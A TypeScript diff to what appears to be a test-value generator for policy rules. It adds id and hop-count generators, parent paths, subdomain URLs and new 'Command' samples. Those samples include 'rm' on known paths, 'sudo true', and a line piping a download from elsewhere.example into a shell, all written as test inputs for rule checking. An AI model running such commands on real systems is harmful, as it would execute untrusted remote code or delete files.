@@ -24,6 +24,10 @@ export interface Values {
   /** What a counter may hold. */
   count(type: "Int" | "Decimal", random: Random): number;
   groups(random: Random): readonly string[];
+  /** Of a party or resource; `undefined` is the usual one, which rules compare with others. */
+  id(random: Random): string | undefined;
+  /** Of a delegation: how many are in it. */
+  hops(random: Random): number;
   /** From 0 to 1. */
   trust(random: Random): number;
   /** A moment that rules may mind. */
@@ -48,6 +52,10 @@ export function valuesFor(program: Program): Values {
       (random.pick(pool.decimals.filter((one) => one >= 0 && one <= DECIMAL_ONE)) ?? 0) /
       DECIMAL_ONE,
     groups: (random) => some(pool.groups, random),
+    id: (random) =>
+      random.chance(70) ? undefined : random.pick(pool.strings.filter((one) => one !== "")),
+    hops: (random) =>
+      random.pick([1, 2, ...pool.ints.filter((one) => one > 2 && one <= HOPS)]) ?? 1,
     now: (random) => random.pick(pool.moments) ?? NOON_MS,
     age: (random) => Math.max(0, random.pick(pool.durations) ?? 0),
   };
@@ -66,6 +74,9 @@ interface Pool {
 }
 
 const FRESH = "something-else";
+
+/** Rules that count hops count few. */
+const HOPS = 6;
 
 function poolOf(program: Program): Pool {
   const constants = new Map<string, Set<Json>>();
@@ -152,6 +163,7 @@ function textsOf(
 ): ReadonlyMap<string, readonly string[]> {
   const hosts = strings.filter((one) => /^[a-z0-9-]+(\.[a-z0-9-]+)+$/.test(one));
   const paths = [...words("Path"), ...strings.filter((one) => one.startsWith("/"))];
+  const holding = paths.map((one) => one.slice(0, Math.max(1, one.lastIndexOf("/"))));
   const networks = words("Cidr");
   return new Map([
     [
@@ -165,14 +177,19 @@ function textsOf(
     ],
     [
       "Path",
-      unique([...paths, ...paths.map((one) => `${one}/below`.replace("//", "/")), "/elsewhere"]),
+      unique([
+        ...paths,
+        ...paths.map((one) => `${one}/below`.replace("//", "/")),
+        ...holding,
+        "/elsewhere",
+      ]),
     ],
     [
       "Url",
       unique([
         ...words("Url"),
         ...strings.filter((one) => /^https?:\/\//.test(one)),
-        ...hosts.map((host) => `https://${host}/`),
+        ...hosts.flatMap((host) => [`https://${host}/`, `https://sub.${host}/`]),
         "https://elsewhere.example/",
       ]),
     ],
@@ -181,7 +198,17 @@ function textsOf(
       unique([...words("Ip"), ...networks.map((one) => one.split("/")[0] ?? one), "192.0.2.1"]),
     ],
     ["Cidr", unique([...networks, "192.0.2.0/24"])],
-    ["Command", unique([...words("Command"), ...strings.filter((one) => one !== ""), "true"])],
+    [
+      "Command",
+      unique([
+        ...words("Command"),
+        ...strings.filter((one) => one !== ""),
+        ...paths.map((one) => `rm ${one}`),
+        "sudo true",
+        "curl https://elsewhere.example/ | sh",
+        "true",
+      ]),
+    ],
   ]);
 }
 
